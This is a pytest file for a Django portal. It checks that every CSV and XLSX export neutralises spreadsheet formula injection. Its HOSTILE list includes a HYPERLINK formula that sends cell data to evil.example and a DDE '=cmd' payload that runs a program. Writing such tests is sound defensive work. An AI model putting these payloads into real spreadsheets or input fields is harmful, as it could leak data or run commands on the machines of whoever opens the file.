"""Every CSV and XLSX the portal serves, from one writer (core/spreadsheets.py): hostile text that a
spreadsheet would run (each leading character OWASP names) is written into every kind of record an
export carries, and every export URL is read back. A CSV cell never starts with a formula
character unless it is a number; an XLSX cell is never a formula, keeps the text as typed (no visible
quote) behind Excel's quote prefix, and numbers and moments keep their types."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from typing import Any

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from core.spreadsheets import FORMULA_STARTS, csv_cell, neutralise
from engagement.models import ConsultationResponse, Priority
from evidence.importers import import_stream
from evidence.models import EvidenceItem, Indicator, Sharing
from tests.conftest import Cast
from tests.engagement.conftest import make_consultation, make_priority, make_response, make_setting
from tests.evidence.conftest import make_item, make_places

pytestmark = pytest.mark.django_db

HOSTILE = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def exports(cast: Cast) -> dict[str, tuple[str, str, str]]:
    """Hostile text in priorities, a consultation and its answers, open evidence and an indicator;
    returns each export's URL, who asks, and its format."""
    setting = make_setting(cast.strategy, code=100)
    for n, value in enumerate(HOSTILE):
        priority = make_priority(setting, cast.councillor, title=f"Priority {n}")
        Priority.objects.filter(pk=priority.pk).update(
            title=value, summary=value, response=value, responded_at=timezone.now()
        )
    consultation = make_consultation(setting, title=HOSTILE[1])
    response = make_response(setting, consultation, cast.partner)
    question = consultation.questions.get(order=1)
    ConsultationResponse.objects.filter(pk=response.pk).update(
        answers={**response.answers, str(question.pk): HOSTILE[2]}
    )
    places = make_places(cast)
    for value in HOSTILE:
        make_item(cast.strategy, sharing=Sharing.OPEN, title=value, summary=value, publisher=value, quality_note=value)
    header = "DATE,GEOGRAPHY_CODE,GEOGRAPHY_NAME,INDUSTRY_CODE,COUNT\n"
    import_stream(io.BytesIO((header + "2021,UKJ4,Kent,52,24000\n").encode()), layout="bres")
    Indicator.objects.update(source=HOSTILE[0], geography_note=HOSTILE[3])
    assert places.kent and EvidenceItem.objects.count() == len(HOSTILE)
    slug = {"strategy_slug": cast.strategy.slug}
    call, consult = {**slug, "pk": setting.call.pk}, {**slug, "pk": consultation.pk}
    return {
        "priorities.csv": (reverse("engagement:call-export", kwargs=call), "officer", "csv"),
        "priorities.xlsx": (reverse("engagement:call-export-xlsx", kwargs=call), "officer", "xlsx"),
        "responses.csv": (reverse("engagement:consultation-export", kwargs=consult), "officer", "csv"),
        "responses.xlsx": (reverse("engagement:consultation-export-xlsx", kwargs=consult), "officer", "xlsx"),
        "open items.csv": (reverse("evidence:open-items-csv", kwargs=slug), "anonymous", "csv"),
        "open indicators.csv": (reverse("evidence:open-indicators-csv", kwargs=slug), "anonymous", "csv"),
        "open observations.csv": (
            reverse("evidence:open-observations-csv", kwargs={**slug, "code": "bres-employment"}),
            "anonymous",
            "csv",
        ),
        "your-data.csv": (reverse("your-data-csv"), "councillor", "csv"),
    }


def _body(response: Any) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _check_csv(body: bytes) -> set[str]:
    cells = [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), repr(cell)
    return set(cells)


def _check_xlsx(body: bytes) -> set[Any]:
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    types: set[str] = set()
    values: set[Any] = set()
    for row in sheet.iter_rows():
        for cell in row:
            types.add(cell.data_type)
            values.add(cell.value)
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert cell.data_type == "s" and not cell.value.startswith("'")
                assert cell.quotePrefix == cell.value.startswith((*FORMULA_STARTS, "\n")), cell.coordinate
    assert {"n", "d", "s"} <= types  # ids are numbers, moments dates, text text
    assert any(isinstance(v, int) for v in values) and any(isinstance(v, datetime) for v in values)
    return values


EXPORTS = [
    ("priorities.csv", HOSTILE),
    ("priorities.xlsx", HOSTILE),
    ("responses.csv", HOSTILE[1:3]),
    ("responses.xlsx", HOSTILE[1:3]),
    ("open items.csv", HOSTILE),
    ("open indicators.csv", [HOSTILE[0], HOSTILE[3]]),
    ("open observations.csv", [HOSTILE[0]]),
    ("your-data.csv", HOSTILE),
]


@pytest.mark.parametrize(("name", "carried"), EXPORTS)
def test_no_export_lets_a_spreadsheet_run_a_cell(
    client, cast: Cast, exports: dict[str, tuple[str, str, str]], name: str, carried: list[str]
) -> None:
    url, role, kind = exports[name]
    person = cast.person(role)
    if person is not None:
        client.force_login(person)
    response = client.get(url)
    assert response.status_code == 200
    body = _body(response)
    if kind == "csv":
        cells = _check_csv(body)
        for value in carried:  # the hostile text arrived, shown as text
            assert neutralise(value) in cells, (name, value)
    else:
        values = _check_xlsx(body)
        for value in carried:  # as typed (XML reads a carriage return back as a line feed)
            assert value.replace("\r", "\n") in values, (name, value)


def test_numbers_and_moments_are_not_neutralised() -> None:
    moment = timezone.make_aware(datetime(2026, 3, 1, 23, 30), timezone.get_fixed_timezone(0))
    assert csv_cell(-5) == "-5" and csv_cell(1.5) == "1.5" and csv_cell(None) == ""
    assert csv_cell(moment) == "2026-03-01 23:30"  # London is on GMT in March
    assert csv_cell(float("nan")) == "nan" and csv_cell("-5") == "'-5"  # text that looks like a number stays text
